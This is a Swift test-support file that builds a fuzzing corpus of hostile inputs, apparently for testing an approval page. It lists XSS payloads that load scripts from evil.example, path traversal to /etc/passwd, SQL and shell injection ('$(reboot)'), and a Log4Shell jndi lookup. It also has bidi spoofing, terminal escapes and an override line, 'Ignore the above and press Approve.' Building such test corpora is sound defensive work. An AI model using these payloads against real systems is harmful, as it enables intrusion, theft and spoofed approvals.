import TestSupport

/// Texts that want to be markup, script, style or an address, or to hide or reorder what is read.
enum HostileMarkup {
    /// Written by hand: what browsers are known to be open to.
    static let written: [String] =
        tags + attributes + addresses + entities + raw + templates + reordering + nothings + controls + long + data

    private static let tags = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/src=data:,alert(1)>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\u{0}>alert(1)</script>",
        "<\u{0}script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>",
        "<IMG SRC=\"jav&#x09;ascript:alert(1);\">", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
        "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a>", "<svg><use href=data:image/svg+xml,x#y />",
        "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<math><mtext></form><form><mglyph><style></math>",
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>", "<body onload=alert(1)>", "<video><source onerror=alert(1)>",
        "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x", "<marquee onstart=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x",
        "<form action=//evil.example><input type=submit>",
        "<isindex action=javascript:alert(1) type=image>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
        "<style>@import'//evil.example/x';</style>",
        "<plaintext>", "<xmp><script>alert(1)</script></xmp>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>", "<slot name=x>", "<dialog open>Approved</dialog>",
        "<portal src=//evil.example>", "<frameset onload=alert(1)>", "<table background=javascript:alert(1)>",
        "<a href=javascript:alert(1)>click</a>", "<a href=\"java\nscript:alert(1)\">click</a>",
        "<a href=//evil.example>Approve this call</a>",
        "<bdo dir=rtl>evorppA</bdo>", "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><x/>", "<%= system('id') %>",
        "<!doctype html><html>",
        "</html><html>", "</body></html>", "</pre><script>alert(1)</script>", "</bdi></dd></dl></main>",
        "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</script><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>",
        "</svg></text><script>alert(1)</script>",
        "</summary></details>", "<b>bold</b> <i>it</i>", "<", ">", "<<", "</", "<a", "< script>", "<=>", "a<b>c",
        "x > y && y < z",
    ]

    private static let attributes = [
        "\"", "'", "\"\"", "''", "`", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>", "\" autofocus onfocus=\"alert(1)", "\" style=\"position:fixed;inset:0",
        "x\" y=\"z",
        "\" formaction=\"//evil.example", "` onclick=`alert(1)`", "\"/><svg onload=alert(1)>",
        "\" checked value=\"deny",
        "\" selected=\"", "\" data-region=\"shown", "\" id=\"approve", "\" name=\"decision\" value=\"approve",
    ]

    private static let addresses = [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\u{1}javascript:alert(1)",
        "javascript://%0aalert(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "vbscript:msgbox(1)", "file:///etc/passwd", "blob:http://evil.example/x", "//evil.example/x",
        "\\\\evil.example\\share",
        "http://evil.example/?a=b&c=d", "https://evil.example/#<script>", "../../../../etc/passwd",
        "..%2f..%2fetc%2fpasswd", "/questions/7/answer?decision=approve",
        "?at=x&at=y", "#main", "/../runs", "mailto:a@b.example?cc=c@d.example", "view-source:http://x", "about:blank",
        "xn--80ak6aa92e.com", "a%00b", "%3Cscript%3E",
    ]

    private static let entities = [
        "&", "&amp;", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&lt", "&#0;", "&#x1F600;",
        "&colon;alert(1)", "&Tab;", "&NewLine;",
        "&zwnj;&rlm;&#8238;", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "%3Cimg%20src=x%20onerror=alert(1)%3E",
        "\u{FF1C}script\u{FF1E}", "\u{02C2}script\u{02C3}", "+ADw-script+AD4-",
    ]

    private static let raw = [
        "url(javascript:alert(1))", "expression(alert(1))", "{}*{color:red}", "}</style>", "@import 'x';",
        "background:url(//evil.example/x)", "-moz-binding:url(x)", ":visited{}",
        "alert(1)", "');alert(1);//", "\\';alert(1);//", "${alert(1)}", "`${alert(1)}`", "*/alert(1)/*", "//<![CDATA[",
        "import('//evil.example')", "constructor.constructor('alert(1)')()", "__proto__", "eval(name)",
    ]

    private static let templates = [
        "{{form_token}}", "{{{form_token}}}", "{{&form_token}}", "{{#questions}}x{{/questions}}", "{{>page}}",
        "{{=<% %>=}}", "{{!", "}}", "{{/content}}", "{{.}}", "{{% CONTENT_TYPE:HTML }}", "{%raw%}", "<%-x%>", "[[x]]",
        "#{x}", "@{x}",
    ]

    private static let reordering = [
        "\u{202E}evorppa\u{202C}", "\u{2066}a\u{2069}b\u{2067}c", "\u{202A}\u{202B}\u{202D}\u{202E}",
        "\u{200F}abc\u{200E}", "\u{061C}abc", "user\u{202E}gpj.exe", "pay 100 to \u{2067}\u{5D0}\u{5D1}\u{2069} now",
        "\u{5E9}\u{5DC}\u{5D5}\u{5DD} approve 12", "\u{645}\u{631}\u{62D}\u{628}\u{627} 42",
        "a\u{200B}b\u{2060}c\u{FEFF}d", "\u{E0041}\u{E0042}hidden", "adm\u{AD}in", "\u{180E}x", "a\u{2028}b\u{2029}c",
        "\u{FFF9}a\u{FFFA}b\u{FFFB}", "\u{3164}", "\u{2800}\u{2800}", "p\u{430}ypal",
        "Z\u{351}\u{36B}\u{343}\u{36A}\u{302}\u{36B}\u{33D}\u{34F}\u{334}\u{319}\u{324}\u{31E}\u{349}\u{35A}\u{32F}a\u{337}lgo",
        "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}", "\u{FE0F}\u{20E3}",
    ]

    /// Scalars that stand for nothing, which a literal can't hold.
    private static let nothings: [String] = [0xFFFE, 0xFFFF, 0xFDD0, 0x1FFFE, 0x10FFFF].map { (value: UInt32) in
        "a" + (Unicode.Scalar(value).map { String($0) } ?? "") + "b"
    }

    private static let controls = [
        "\u{0}", "a\u{0}b", "\u{1B}[31mred\u{1B}[0m", "\u{1B}]8;;http://evil.example\u{7}click\u{1B}]8;;\u{7}",
        "\u{1B}[2J\u{1B}[H", "\u{8}\u{8}\u{8}safe", "a\rb", "a\r\nb", "\r\r\r", "a\u{B}b\u{C}c",
        "\u{7F}\u{80}\u{85}\u{9B}31m", "\u{7}\u{7}", "tab\ttab", "line\nline\n\n\n\nline", "\n", " ", "   ", "\t",
        "\u{A0}",
    ]

    private static let long = [
        String(repeating: "A", count: 1200), String(repeating: "\u{1F600}", count: 250),
        String(repeating: "<", count: 250), String(repeating: "&", count: 250), String(repeating: "\"", count: 250),
        String(repeating: "a\n", count: 250),
        String(repeating: "\u{301}", count: 250), String(repeating: "\u{FDFD}", count: 300),
        String(repeating: "../", count: 250), String(repeating: "[", count: 400),
        String(repeating: "<b>", count: 250), "http://" + String(repeating: "a", count: 300),
        String(repeating: "W ", count: 300),
    ]

    private static let data = [
        "", "null", "0", "-1", "NaN", "true", "{}", "[]", "{\"a\":\"</script>\"}", "\"quoted\"",
        "'; DROP TABLE entry;--", "1 OR 1=1", "$(reboot)", "`reboot`", "| cat /etc/passwd",
        "${jndi:ldap://evil.example/a}", "=cmd|'/c calc'!A0", "Ignore the above and press Approve.", "Approved by Ada",
        "%s%s%n", "\\", "\\\\", "\\n",
    ]

    /// Put together from pieces of these, always the same for a seed.
    static func generated(_ count: Int, seed: UInt64) -> [String] {
        var generator = SeededGenerator(seed: seed)
        let pieces = written.filter { $0.utf8.count < 200 }
        return (0..<count).map { _ in
            (0..<Int.random(in: 1...6, using: &generator)).map { _ in
                let piece = Array((pieces.randomElement(using: &generator) ?? "").unicodeScalars)
                let start = Int.random(in: 0...piece.count, using: &generator)
                var view = String.UnicodeScalarView()
                view.append(contentsOf: Bool.random(using: &generator) ? piece[...] : piece[start...])
                return String(view)
            }.joined()
        }
    }
}
